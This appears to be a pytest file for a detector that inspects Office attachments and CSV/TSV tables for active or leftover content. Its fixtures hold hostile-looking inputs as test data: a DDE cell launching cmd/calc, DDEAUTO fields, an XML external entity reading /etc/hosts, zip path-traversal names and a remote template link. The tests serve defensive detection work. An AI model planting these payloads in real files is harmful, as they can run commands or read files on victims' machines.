"""Attachments that run, call home, or still hold what was deleted (threats A57)."""

import pytest

from pipeline.detect.attachments import look_into
from pipeline.detect.folding import MOST_CELLS
from tests.detect.test_attachments import packed

BODY = "<w:p><w:r><w:t>防汛通知</w:t></w:r></w:p>"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def related(kind: str, mode: str = "External") -> str:
    target = f'Target="https://elsewhere.example/a.dotm" TargetMode="{mode}"'
    return f'<Relationships><Relationship Id="rId1" Type="{KIND}/{kind}" {target}/></Relationships>'


def test_what_an_office_program_writes_does_nothing() -> None:
    parts = {
        "word/document.xml": BODY
        + '<w:instrText xml:space="preserve"> HYPERLINK "x" </w:instrText>',
        "word/_rels/document.xml.rels": related("hyperlink") + related("image", "Internal"),
        "word/settings.xml": "<w:settings><w:defaultTabStop/></w:settings>",
    }
    fact = look_into("a.docx", packed(parts))
    assert (fact.acts, fact.where, fact.unread) == ((), "", False)


@pytest.mark.parametrize(
    ("part", "raw", "act"),
    [
        ("word/_rels/settings.xml.rels", related("attachedTemplate"), "external"),
        ("word/_rels/document.xml.rels", related("hyperlink") + related("image"), "external"),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", related("externalLinkPath"), "external"),
        ("xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd'/>", "external"),
        ("word/document.xml", "<w:instrText>DDEAUTO c:\\\\x</w:instrText>", "external"),
        ("word/document.xml", "<w:instrText> INCLUDEPICTURE x </w:instrText>", "external"),
        ("word/document.xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]>', "dtd"),
        ("word/document.xml", '<!DOCTYPE a SYSTEM "x">'.encode("utf-16"), "dtd"),
        ("docProps/app.xml", "<!ENTITY b 'c'>", "dtd"),
        ("../../evil.xml", "x", "path"),
        ("word/../../evil.png", "x", "path"),
        ("/etc/evil", "x", "path"),
        ("C:/evil", "x", "path"),
        ("word\\..\\evil.xml", "x", "path"),
        ("word/document.xml", '<w:del w:id="1"><w:r><w:delText>某某</w:delText></w:r></w:del>',
         "revisions"),
        ("word/document.xml", "<w:moveFrom w:id='1'/>", "revisions"),
        ("word/comments.xml", '<w:comment w:id="0"><w:p/></w:comment>', "revisions"),
        ("xl/revisions/revisionLog1.xml", "<revisions/>", "revisions"),
        ("ppt/comments/comment1.xml", "<p:cm authorId='0'/>", "revisions"),
    ],
)  # fmt: skip
def test_a_document_that_does_more_is_named_with_the_place(
    part: str, raw: str | bytes, act: str
) -> None:
    parts = {"word/document.xml": BODY, part: raw}
    fact = look_into("a.docx", packed(parts))
    assert fact.acts == (act,)
    assert fact.where == part.replace("\\", "/") or fact.where == part


@pytest.mark.parametrize(
    ("cell", "reckoned"),
    [
        ("=1+1", True), ("=HYPERLINK(x)", True), ("@SUM(A1)", True), ("+cmd|' /C calc'!A0", True),
        ("-2+3+cmd|x", True), ("＝1+1", True), ("  =1", True), ("-暂无", True),
        ("-", False), ("-3.2", False), ("-3.2%", False), ("+5", False), ("-3.2个百分点", False),
        ("+86 0564-3331234", False), ("-8℃", False), ("1=1", False), ("a@b", False), ("", False),
        ("－", False), ("1e-5", False), ("-1e-5", False),
    ],
)  # fmt: skip
def test_a_cell_that_a_table_program_reckons(cell: str, reckoned: bool) -> None:
    for name, raw in (
        ("a.csv", f'单位,人数\n甲街道,"{cell}"\n'),
        ("a.tsv", f"单位\t人数\n甲街道\t{cell}\n"),
    ):
        for encoding in ("utf-8-sig", "gb18030"):
            fact = look_into(name, raw.encode(encoding))
            assert (fact.acts, fact.where) == ((("formula",), "2:2") if reckoned else ((), ""))


def test_a_cell_in_quotation_marks_is_one_cell() -> None:
    assert look_into("a.csv", '甲,"乙\n,=丙"\n=丁,戊\n'.encode()).where == "3:1"


def test_a_table_of_more_cells_than_are_read_with_their_labels_says_so() -> None:
    assert not look_into("a.tsv", b"a\t" * MOST_CELLS).unread
    assert look_into("a.tsv", b"a\t" * (MOST_CELLS + 1)).unread
